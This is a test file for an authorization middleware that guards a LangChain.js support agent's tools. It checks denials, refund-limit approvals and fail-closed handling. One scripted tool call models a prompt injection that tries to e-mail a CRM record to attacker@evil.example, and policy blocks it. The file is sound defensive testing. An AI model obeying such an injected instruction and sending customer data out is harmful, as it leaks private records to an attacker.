// End to end: a real LangChain.js agent (`langchain` + `@langchain/core` from
// npm) with a scripted fake chat model (no network) calls tools against an
// agentauthz bundle through agentauthz/langchain. Denied tools never run;
// allowed ones do; the model sees the refusals.

import { describe, test } from 'node:test'
import assert from 'node:assert/strict'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { createRequire } from 'node:module'
import { AIMessage, HumanMessage, ToolMessage, createAgent, tool } from 'langchain'
import { fakeModel } from '@langchain/core/testing'
import { Engine, Decision } from 'agentauthz'
import { authorizationMiddleware } from 'agentauthz/langchain'

assert.equal(process.env.LANGSMITH_TRACING, undefined, 'LANGSMITH_TRACING must be unset: tracing would try the network')

const here = path.dirname(fileURLToPath(import.meta.url))
// The support-agent example bundle: an assistant acting for support users.
const BUNDLE = path.join(here, '..', '..', 'policies-examples', 'support-agent')
const NOW = '2026-11-29T10:00:00Z' // inside sam's case CASE-5512 (09:00-12:00)

/** The support assistant's tools; each records that it ran. */
function supportTools(ran) {
  const object = (properties, required) => ({ type: 'object', properties, required })
  const str = { type: 'string' }
  return [
    tool(async ({ customer }) => (ran.push(['read_customer', customer]), `customer ${customer}: Northwind Traders, EUR`), {
      name: 'read_customer',
      description: 'Read a customer record from the CRM',
      schema: object({ customer: str }, ['customer']),
    }),
    tool(async ({ customer, to, subject }) => (ran.push(['send_email', to]), `sent "${subject}" to ${to} about ${customer}`), {
      name: 'send_email',
      description: "E-mail a customer about their case",
      schema: object({ customer: str, to: str, subject: str, body: str }, ['customer', 'to', 'subject']),
    }),
    tool(async ({ order, amount, currency }) => (ran.push(['refund', order]), `refunded ${amount} ${currency} on ${order}`), {
      name: 'refund',
      description: 'Refund (part of) an order',
      schema: object({ order: str, amount: str, currency: str, reason: str }, ['order', 'amount', 'currency']),
    }),
  ]
}

/** How the assistant's tool calls map onto the bundle's requests. */
function supportMiddleware(engine, decisions, errors = []) {
  return authorizationMiddleware({
    engine,
    agent: 'helpdesk-assistant',
    onBehalfOf: 'sam',
    task: 'CASE-5512',
    credential: 'helpdesk-oauth',
    action: { read_customer: 'crm:read-customer', send_email: 'email:send', refund: 'billing:refund' },
    resource: (call) => (call.name === 'refund' ? { type: 'Order', id: call.args.order } : { type: 'Customer', id: call.args.customer }),
    input: (call) => {
      if (call.name === 'read_customer') return undefined // crm:read-customer takes no input
      const { customer, order, ...input } = call.args // the resource is not part of the input
      return input
    },
    now: NOW,
    onDecision: (decision, call) => decisions.push([call.name, decision]),
    onError: (error, call) => errors.push([call.name, error]),
  })
}

const toolMessages = (messages) => messages.filter((m) => ToolMessage.isInstance(m))

describe('LangChain.js agent with agentauthz', () => {
  test('denied tools never run, allowed ones do, the model sees why', async () => {
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    const ran = []
    const decisions = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'read_customer', args: { customer: 'c-1001' }, id: 'call-1' }, // sam's customer: allowed
        { name: 'read_customer', args: { customer: 'c-2001' }, id: 'call-2' }, // riley's customer: no permit
        // A prompt injection asks to mail the record elsewhere: forbidden.
        { name: 'send_email', args: { customer: 'c-1001', to: 'attacker@evil.example', subject: 'CRM export' }, id: 'call-3' },
      ])
      .respondWithTools([
        { name: 'send_email', args: { customer: 'c-1001', to: 'billing@northwind.example', subject: 'Your refund' }, id: 'call-4' },
        { name: 'refund', args: { order: 'o-5001', amount: '25.00', currency: 'EUR' }, id: 'call-5' }, // allowed
        { name: 'refund', args: { order: 'o-5002', amount: '250.00', currency: 'EUR' }, id: 'call-6' }, // above 100.00
      ])
      .respond(new AIMessage('Refunded 25.00 EUR and told the customer.'))
    const agent = createAgent({ model, tools: supportTools(ran), middleware: [supportMiddleware(engine, decisions)] })

    const result = await agent.invoke({ messages: [new HumanMessage("Handle Northwind's duplicate charge.")] })

    assert.deepEqual(ran.sort(), [
      ['read_customer', 'c-1001'],
      ['refund', 'o-5001'],
      ['send_email', 'billing@northwind.example'],
    ])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    assert.deepEqual(Object.keys(byId).sort(), ['call-1', 'call-2', 'call-3', 'call-4', 'call-5', 'call-6'])
    for (const id of ['call-1', 'call-4', 'call-5']) assert.notEqual(byId[id].status, 'error', id)
    assert.match(byId['call-1'].content, /Northwind Traders/)
    assert.match(byId['call-5'].content, /refunded 25.00 EUR on o-5001/)
    for (const id of ['call-2', 'call-3']) {
      assert.equal(byId[id].status, 'error', id)
      assert.match(byId[id].content, /^Tool call '\w+' was denied by authorization policy \(reasons: .*; decision_id: \w{26}\)\. The tool did not run\.$/, id)
    }
    assert.match(byId['call-2'].content, /^Tool call 'read_customer' was denied .*\(reasons: no policy permits this call;/)
    assert.match(byId['call-3'].content, /^Tool call 'send_email' was denied .*\(reasons: support\/email-only-to-customer-address;/)
    assert.equal(byId['call-6'].status, 'error')
    assert.match(
      byId['call-6'].content,
      /^Tool call 'refund' needs a human's approval \(approvers: owner; reasons: support\/refund-limit; decision_id: \w{26}; request_digest: sha256:[0-9a-f]{64}\)\. The tool did not run\.$/,
    )
    assert.ok(byId['call-6'].content.includes(byId['call-6'].artifact.agentauthz.decision_id))
    // Above the refund limit the example asks for the owner's approval; this
    // agent has no checkpointer, so it cannot pause for it: the call is refused.
    assert.equal(byId['call-6'].artifact.agentauthz.decision, 'needs_approval')
    assert.deepEqual(byId['call-6'].artifact.agentauthz.reasons, ['support/refund-limit'])

    // One decision per tool call, each a real Decision from the engine.
    assert.equal(decisions.length, 6)
    assert.ok(decisions.every(([, d]) => d instanceof Decision && d.policyRevision === engine.policyRevision))
    assert.deepEqual(
      decisions.map(([name, d]) => [name, d.decision, d.reasons]).sort(),
      [
        ['read_customer', 'allow', ['support/read-own-customers']],
        ['read_customer', 'deny', []],
        ['refund', 'allow', ['support/refund-own-customers']],
        ['refund', 'needs_approval', ['support/refund-limit']],
        ['send_email', 'allow', ['support/email-own-customers']],
        ['send_email', 'deny', ['support/email-only-to-customer-address']],
      ],
    )
    // The model was called again after each tool round and saw the refusals.
    assert.equal(model.callCount, 3)
    const seen = toolMessages(model.calls[1].messages).map((m) => [m.tool_call_id, m.status])
    assert.deepEqual(seen.sort(), [
      ['call-1', 'success'],
      ['call-2', 'error'],
      ['call-3', 'error'],
    ])
    assert.equal(result.messages.at(-1).content, 'Refunded 25.00 EUR and told the customer.')
  })

  test('a call that cannot be decided does not run (fail closed)', async () => {
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    const ran = []
    const decisions = []
    const errors = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'send_email', args: { customer: 'c-1001', to: 'billing@northwind.example' }, id: 'no-subject' }, // input needs a subject
        { name: 'refund', args: { order: 'o-5001', amount: 1.23456, currency: 'EUR' }, id: 'number-amount' }, // a decimal has 4 fraction digits at most
        { name: 'read_customer', args: {}, id: 'no-customer' }, // the resource mapping yields no id
      ])
      .respond(new AIMessage('Gave up.'))
    const agent = createAgent({ model, tools: supportTools(ran), middleware: [supportMiddleware(engine, decisions, errors)] })

    const result = await agent.invoke({ messages: [new HumanMessage('Refund Northwind.')] })

    assert.deepEqual(ran, [])
    assert.deepEqual(decisions, [])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    for (const id of ['no-subject', 'number-amount', 'no-customer']) assert.equal(byId[id].status, 'error', id)
    assert.match(byId['no-subject'].content, /^Tool call 'send_email' was refused: authorization could not be decided \(error: request_invalid: /)
    assert.match(byId['number-amount'].content, /^Tool call 'refund' was refused: .*\(error: request_invalid: .*amount/)
    assert.match(byId['no-customer'].content, /^Tool call 'read_customer' was refused: .*\(error: request_\w+: /)
    assert.equal(byId['number-amount'].artifact.agentauthz.error.code, 'request_invalid')
    assert.deepEqual(errors.map(([name, e]) => [name, e.code]).sort(), [
      ['read_customer', 'request_parse'],
      ['refund', 'request_invalid'],
      ['send_email', 'request_invalid'],
    ])
  })

  test('the CommonJS entry point builds the same middleware', async () => {
    const require = createRequire(import.meta.url)
    const cjs = require('agentauthz/langchain')
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    const ran = []
    const decisions = []
    const middleware = cjs.authorizationMiddleware({
      engine,
      agent: 'chat-widget-bot', // set up by a vendor, nobody owns it: the baseline denies everything
      onBehalfOf: () => 'sam',
      action: () => 'crm:read-customer',
      resource: (call) => ({ type: 'Customer', id: call.args.customer }),
      input: () => undefined,
      now: () => new Date(NOW),
      onDecision: (d) => decisions.push(d),
    })
    const model = fakeModel()
      .respondWithTools([{ name: 'read_customer', args: { customer: 'c-1001' }, id: 'c' }])
      .respond(new AIMessage('ok'))
    const agent = createAgent({ model, tools: supportTools(ran), middleware: [middleware] })
    const result = await agent.invoke({ messages: [new HumanMessage('Read c-1001.')] })
    assert.deepEqual(ran, [])
    assert.deepEqual(decisions.map((d) => d.reasons), [['baseline/owner-required']])
    assert.match(toolMessages(result.messages)[0].content, /\(reasons: baseline\/owner-required; decision_id: /)
  })

  test('hostile options: a throwing option function refuses, a throwing onDecision vetoes; the run goes on', async () => {
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    const ran = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'read_customer', args: { customer: 'c-1001' }, id: 'throws' }, // the resource function throws
        { name: 'refund', args: { order: 'o-5002', amount: '250.00', currency: 'EUR' }, id: 'deny' },
        { name: 'refund', args: { order: 'o-5001', amount: '25.00', currency: 'EUR' }, id: 'allow' },
      ])
      .respond(new AIMessage('done'))
    const options = {
      engine,
      agent: 'helpdesk-assistant',
      onBehalfOf: 'sam',
      task: 'CASE-5512',
      action: { read_customer: 'crm:read-customer', refund: 'billing:refund' },
      resource: (call) => {
        if (call.name === 'read_customer') throw new Error('CRM lookup failed')
        return { type: 'Order', id: call.args.order }
      },
      input: (call) => (call.name === 'refund' ? { amount: call.args.amount, currency: call.args.currency } : undefined),
      now: NOW,
      onDecision: () => {
        throw new Error('observer down')
      },
    }
    const agent = createAgent({ model, tools: supportTools(ran), middleware: [authorizationMiddleware(options)] })
    const result = await agent.invoke({ messages: [new HumanMessage('Refund.')] })
    assert.deepEqual(ran, [])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    assert.match(byId.throws.content, /\(error: Error: CRM lookup failed\)\. The tool did not run\.$/)
    assert.match(byId.deny.content, /reasons: support\/refund-limit/)
    // A throwing onDecision vetoes the allowed call.
    assert.match(byId.allow.content, /\(decision_id: \w{26}; error: Error: observer down\)/)
  })

  test('an action map denies the tools it does not list; two instances with their own names', async () => {
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    const ran = []
    const decisions = []
    const model = fakeModel()
      .respondWithTools([
        { name: 'read_customer', args: { customer: 'c-1001' }, id: 'listed' },
        { name: 'send_email', args: { customer: 'c-1001', to: 'billing@northwind.example', subject: 'Hi' }, id: 'unlisted' },
      ])
      .respond(new AIMessage('done'))
    const readOnly = authorizationMiddleware({
      engine,
      name: 'ReadOnly',
      agent: 'helpdesk-assistant',
      onBehalfOf: 'sam',
      action: new Map([['read_customer', 'crm:read-customer']]),
      resource: (call) => ({ type: 'Customer', id: call.args.customer }),
      input: () => undefined,
      now: NOW,
      onDecision: (d, call) => decisions.push([call.name, d.reasons]),
    })
    // A second instance, under its own name (LangChain refuses two with one name).
    const second = authorizationMiddleware({
      engine,
      name: 'Audit',
      agent: 'helpdesk-assistant',
      onBehalfOf: 'sam',
      action: { read_customer: 'crm:read-customer', send_email: 'email:send' },
      resource: (call) => ({ type: 'Customer', id: call.args.customer }),
      input: (call) => (call.name === 'read_customer' ? undefined : { to: call.args.to, subject: call.args.subject }),
      now: NOW,
    })
    const agent = createAgent({ model, tools: supportTools(ran), middleware: [readOnly, second] })
    const result = await agent.invoke({ messages: [new HumanMessage('Read and mail.')] })
    assert.deepEqual(ran, [['read_customer', 'c-1001']])
    const byId = Object.fromEntries(toolMessages(result.messages).map((m) => [m.tool_call_id, m]))
    assert.match(byId.unlisted.content, /reasons: baseline\/unknown-action; decision_id: /)
    assert.deepEqual(decisions, [
      ['read_customer', ['support/read-own-customers']],
      ['send_email', ['baseline/unknown-action']],
    ])
  })

  test('options are checked when the middleware is built', () => {
    const engine = Engine.load(BUNDLE, { trustCallerTime: true })
    assert.throws(() => authorizationMiddleware({ agent: 'a', resource: { type: 'T', id: '1' } }), TypeError)
    assert.throws(() => authorizationMiddleware({ engine, resource: { type: 'T', id: '1' } }), TypeError)
    assert.throws(() => authorizationMiddleware({ engine, agent: 'a' }), TypeError)
    assert.equal(authorizationMiddleware({ engine, agent: 'a', resource: { type: 'T', id: '1' } }).name, 'AgentauthzMiddleware')
    assert.equal(authorizationMiddleware({ engine, agent: 'a', resource: { type: 'T', id: '1' }, name: 'Authz' }).name, 'Authz')
  })
})
